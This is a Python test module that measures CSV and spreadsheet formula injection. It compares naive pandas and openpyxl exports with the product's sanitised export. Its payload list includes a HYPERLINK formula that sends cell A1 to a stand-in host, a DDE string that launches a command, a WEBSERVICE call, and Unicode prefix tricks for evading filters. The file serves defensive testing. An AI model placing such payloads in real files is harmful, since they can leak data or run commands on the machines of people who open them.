"""Formulas in cells and headings: what a spreadsheet would run, in files written naively and in ours.

The attacker's spreadsheet reads a CSV field as a formula when its first visible character, full-width forms included,
is one that starts one; in a workbook a cell is a formula when it is stored as one.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Sequence

import numpy as np
import pandas as pd
from openpyxl import Workbook, load_workbook

from dashboard.downloads import csv_bytes, export_rows
from pipelines.estimate_table import estimate_table
from tests.attacks.result import Attack, Line, Result, results

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "\u200b=",
    "\ufeff=",
    "\u00a0=",
)
BODIES = ('HYPERLINK("http://a.example?"&A1,"x")', "cmd|' /C calc'!A0", "1+1", 'WEBSERVICE("http://a.example")')
PLAIN = "pandas and openpyxl"
LINES = (
    Line("cells of a CSV that run", PLAIN, 0.9, 0.0),
    Line("headings of a CSV that run", PLAIN, 0.9, 0.0),
    Line("cells of a workbook that run", PLAIN, 0.03, 0.0),
    Line("numbers that are no longer numbers, ours", "none is attacked", 0.0, 0.0),
)


def attack(n: int, seed: int) -> list[Result]:
    """Write `n` hostile categories into files, naively and as the product does, and count what would run."""
    chance = np.random.default_rng(seed)
    hostile = [str(chance.choice(STARTS)) + str(chance.choice(BODIES)) + str(place) for place in range(n)]
    table = estimate_table(rows(hostile))
    exported = export_rows(table, {"audience": "public"})
    ours, naive = read(csv_bytes(exported, for_excel=True)), read(table.to_csv(index=False).encode())
    column, plain = ours[0].index("level"), naive[0].index("level")
    cells = [share_run([row[place] for row in found[1:]]) for found, place in ((naive, plain), (ours, column))]
    named = pd.DataFrame([[1] * 40], columns=hostile[:40])
    headings = [share_run(found[0]) for found in (read(named.to_csv(index=False).encode()), read(csv_bytes(named)))]
    books = [in_workbook([row[place] for row in found[1:]]) for found, place in ((naive, plain), (ours, column))]
    at = ours[0].index("estimate")
    broken = np.mean([float(row[at]) != -5.25 for row in ours[1:]])
    return results(LINES, [(cells[0], cells[1]), (headings[0], headings[1]), (books[0], books[1]), (0.0, broken)])


def rows(levels: Sequence[str]) -> list[dict[str, object]]:
    """Return rows of an estimate table with hostile levels, and a number that is below zero."""
    always = {
        "measure": "stayed_share",
        "cohort": "all",
        "source": "release",
        "grouping": "site",
        "stat": "share",
        "shape": "bar",
        "status": "shown",
        "n": 100.0,
        "events": 50.0,
    }
    return [{**always, "level": level, "estimate": -5.25} for level in levels]


def read(content: bytes) -> list[list[str]]:
    """Return the rows of a CSV as a spreadsheet takes them apart."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def share_run(fields: Sequence[str]) -> float:
    """Return the share of CSV fields that a spreadsheet would run."""
    return float(np.mean([_runs(field) for field in fields]))


def _runs(field: str) -> bool:
    seen = "".join(c for c in unicodedata.normalize("NFKC", field) if unicodedata.category(c) not in ("Cc", "Cf"))
    return seen.strip()[:1] in {"=", "+", "-", "@", "|", "%"}


def in_workbook(fields: Sequence[str]) -> float:
    """Return the share of cells that are formulas after being put into a workbook as they are."""
    book = Workbook()
    for place, field in enumerate(fields, start=1):
        book.active.cell(place, 1, "".join(c for c in field if ord(c) >= 32))
    content = io.BytesIO()
    book.save(content)
    content.seek(0)
    column = next(load_workbook(content).active.iter_cols(max_col=1))
    return float(np.mean([cell.data_type == "f" for cell in column]))


ATTACK = Attack("Formulas in cells and headings of CSV files and workbooks", LINES, attack)
